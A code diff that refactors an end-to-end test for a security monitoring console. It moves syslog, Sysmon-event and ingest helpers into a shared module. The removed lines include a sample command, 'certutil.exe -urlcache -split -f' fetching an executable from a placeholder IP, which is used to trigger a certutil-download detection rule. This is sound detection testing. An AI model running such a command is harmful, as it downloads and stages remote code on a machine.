@@ -15,18 +15,17 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
-import net from 'node:net';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { api, freePort, login, resolveBinary, startServer, REPO_ROOT } from '../../tests/lib/server.mjs';
+import { CERTUTIL, CERTUTIL_CMD, SIGMA_RULES, octet, postIngest, rfc5424, sendTcp, sysmonProcess as sysmonObject } from '../../tests/lib/monitoring.mjs';
 import { orgIdsByCode } from '../../tests/lib/api_helpers.mjs';
 
 const WEB_DIR = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
 const DIST = path.join(WEB_DIR, 'dist');
 const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
 const ARTIFACTS = process.env.VIGIL_ARTIFACTS_DIR || path.join(REPO_ROOT, 'build', 'test-artifacts', 'e2e');
-const SHARED = process.env.VIGIL_SHARED_DIR || path.resolve(REPO_ROOT, '..', 'shared');
-const RULES = path.join(SHARED, 'data', 'sigma', 'rules');
+const RULES = SIGMA_RULES;
 const CHROMIUM_ARGS = [
   '--no-sandbox',
   '--disable-gpu',
@@ -40,43 +39,10 @@ const CHROMIUM_ARGS = [
 const SSH_RULE = 'Suspicious OpenSSH Daemon Error';
 const CERTUTIL_RULE = 'Suspicious Download Via Certutil.EXE';
 const SSH_TEXT = 'error: unexpected internal error';
-const CERTUTIL = 'C:\\Windows\\System32\\certutil.exe';
-const CERTUTIL_CMD = 'certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe';
 const CLOSE_REASON = 'Quản trị viên tải bản cập nhật, đã xác minh với đơn vị';
 
-const octet = (msg) => `${Buffer.byteLength(msg)} ${msg}`;
-const rfc5424 = (host, app, msg) => `<38>1 ${new Date().toISOString()} ${host} ${app} 4242 - - ${msg}`;
-
-function sysmonProcess(computer, image, commandLine) {
-  return JSON.stringify({
-    Event: {
-      System: {
-        EventID: 1,
-        Channel: 'Microsoft-Windows-Sysmon/Operational',
-        Computer: computer,
-        TimeCreated: { '#attributes': { SystemTime: new Date().toISOString() } },
-      },
-      EventData: { Image: image, CommandLine: commandLine, ParentImage: 'C:\\Windows\\System32\\cmd.exe' },
-    },
-  });
-}
-
-function sendTcp(port, frames) {
-  return new Promise((resolve, reject) => {
-    const c = net.connect(port, '127.0.0.1', () => c.end(frames));
-    c.on('close', resolve);
-    c.on('error', reject);
-  });
-}
-
-async function ingest(url, token, body) {
-  const r = await fetch(`${url}/api/v1/ingest`, {
-    method: 'POST',
-    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/x-ndjson' },
-    body,
-  });
-  return { status: r.status, text: await r.text() };
-}
+const sysmonProcess = (computer, image, commandLine) => JSON.stringify(sysmonObject(computer, image, commandLine));
+const ingest = (url, token, body) => postIngest(url, token, body);
 
 test('web console: live alerts from syslog and NDJSON, acknowledge and close, event search', { timeout: 180_000 }, async (t) => {
   if (!fs.existsSync(CHROMIUM)) {
